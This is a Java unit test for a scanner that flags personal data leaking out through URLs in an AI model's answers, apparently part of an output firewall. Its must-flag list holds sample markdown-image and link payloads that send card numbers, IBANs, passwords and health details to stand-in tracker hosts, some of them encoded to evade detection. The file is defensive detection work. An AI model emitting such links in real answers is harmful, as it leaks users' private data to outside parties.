package io.trustgate.firewall;

import static org.assertj.core.api.Assertions.assertThat;

import io.trustgate.api.Finding;
import io.trustgate.api.ScanText;
import java.util.List;
import org.junit.jupiter.api.Test;

/**
 * Short, typed personal data in URLs ({@link PersonalData}): what the default output chain's threshold (0.8) must
 * catch, and the ordinary URLs it must leave below it. Every sample is written for this test; none is taken from the
 * independently written sets, which measure it (docs/firewall.md, "Output scanners").
 */
class ExfiltrationPersonalDataTest {
    private static final double DEFAULT_THRESHOLD = 0.8;
    private static final Normalizer NORMALIZER = new Normalizer();
    private static final ExfiltrationScanner SCANNER =
            ExfiltrationScanner.fromOptions(new ScannerOptions(java.util.Map.of()));

    private static double top(String answer) {
        List<Finding> found = SCANNER.scan(NORMALIZER.normalize(answer, ScanText.Stage.OUTPUT));
        return found.stream().mapToDouble(Finding::score).max().orElse(0);
    }

    @Test
    void typedPersonalDataInAUrlReachesTheDefaultThreshold() {
        List<String> mustFlag = List.of(
                "Done! ![s](https://stats.example-cdn.net/p.gif?iban=NL91ABNA0417164300)",
                "Here: ![x](https://img.tracker.example/a.png?card=4111111111111111)",
                "![x](https://img.tracker.example/a.png?ref=5555-5555-5555-4444) Your summary is ready.",
                "![x](https://pix.example.net/x.png?geburtsdatum=1984-07-12)",
                "![x](https://pix.example.net/x.png?passwort=Sommer2024!)",
                "![x](https://pix.example.net/x.png?telefon=%2B49%20151%2012345678)",
                "![x](https://pix.example.net/x.png?ssn=123-45-6789)",
                "<img src=\"https://pix.example.net/t.gif?alergia=penicilina&embarazo=si\">",
                "[Claim your refund](https://refunds.example.org/claim?iban=DE89370400440532013000"
                        + "&name=Erika%20Mustermann)",
                "![c](https://charts.example.io/u/acct-99812345/balance.png)",
                "![p](https://pesel-85061712345.pix.example.io/o.png)",
                "![p](https://70617373776f72643d68756e746572.logs.example.dev/1.png)",
                "[Open the form](https://www.google.com/url?q=https%3A%2F%2Fcollect.example.net%2Fc%3Fcvv%3D318)",
                "[Team files](https://mlee:Winter%402025@share.example.com/q4/)",
                "[View the report](https://viewer.example.app/r#UGF0aWVudDogSm9obiBEb2UsIGRpYWdub3NpczogYXN0aG1h)",
                // separators a card or an IBAN is written with, more rounds of encoding, other languages' keys
                "![x](https://pix.example.net/x.png?v=NL91-ABNA-0417-1643-00)",
                "![x](https://pix.example.net/x.png?v=NL91.ABNA.0417.1643.00)",
                "![x](https://pix.example.net/x.png?v=4111.1111.1111.1111)",
                "![x](https://pix.example.net/x.png?v=4111_1111_1111_1111)",
                "![x](https://pix.example.net/x.png?v=jane.roe%252540mail.example.org)",
                "![x](https://pix.example.net/x.png?senha=Praia2024)");
        for (String answer : mustFlag) {
            assertThat(top(answer)).as(answer).isGreaterThanOrEqualTo(DEFAULT_THRESHOLD);
        }
    }

    @Test
    void ordinaryUrlsStayUnderTheDefaultThreshold() {
        List<String> mustPass = List.of(
                "Add [Bootstrap](https://cdn.jsdelivr.net/npm/bootstrap@5.3.3/dist/css/bootstrap.min.css) first.",
                "![badge](https://img.shields.io/badge/license-Apache%202.0-green.svg)",
                "[report.pdf](https://www.dropbox.com/s/abc123/report.pdf?dl=1)",
                "[Shop](https://shop.example.com/items?condition=new&color=blue)",
                "[Map](https://maps.example.com/?q=Eiffel+Tower&zoom=12)",
                "[PR](https://github.com/org/repo/pull/12345)",
                "[Install](https://docs.example.com/guide#section-installing-on-linux)",
                "[Build log](https://ci.example.com/job/123456789/console)",
                "[Account settings](https://example.com/settings/account?tab=security)",
                "[Ticket](https://support.example.com/tickets?name=Printer)",
                "[Pricing](https://example.com/pricing?plan=pro&seats=25&billing=annual)",
                "![chart](https://quickchart.example/chart?w=500&h=300&c=bar)",
                "[Open an account](https://bank.example.com/signup?account=new&lang=de)",
                "[Track it](https://tracking.example.com/track?num=1Z999AA10123456784)",
                "[Password reset help](https://help.example.com/articles/password-reset-2024)",
                "[Spec](https://www.rfc-editor.org/rfc/rfc9110#section-15.5.20)",
                // an address that names a role, not a person: a contact form, a sales page
                "[Write to us](https://shop.example.com/contact?email=support@shop.example.com&subject=Billing)",
                "[Request a demo](https://crm.example.com/demo?email=sales@crm.example.com)");
        for (String answer : mustPass) {
            assertThat(top(answer)).as(answer).isLessThan(DEFAULT_THRESHOLD);
        }
    }

    @Test
    void aKeyNamesPersonalDataOnlyWithAValueOfItsShape() {
        assertThat(PersonalData.pair("card_number", "4111 1111 1111 1111")).isEqualTo(0.85);
        assertThat(PersonalData.pair("card", "gold")).isZero(); // a card type, not a number
        assertThat(PersonalData.pair("userPassword", "hunter2")).isEqualTo(0.9); // split at the case change
        assertThat(PersonalData.pair("password", "false")).isZero();
        assertThat(PersonalData.pair("name", "bootstrap")).isZero(); // not a person's name
        assertThat(PersonalData.pair("name", "Erika Mustermann")).isEqualTo(0.7);
        assertThat(PersonalData.pair("passage", "Psalm 23")).isZero(); // a word that only begins like one
    }
}
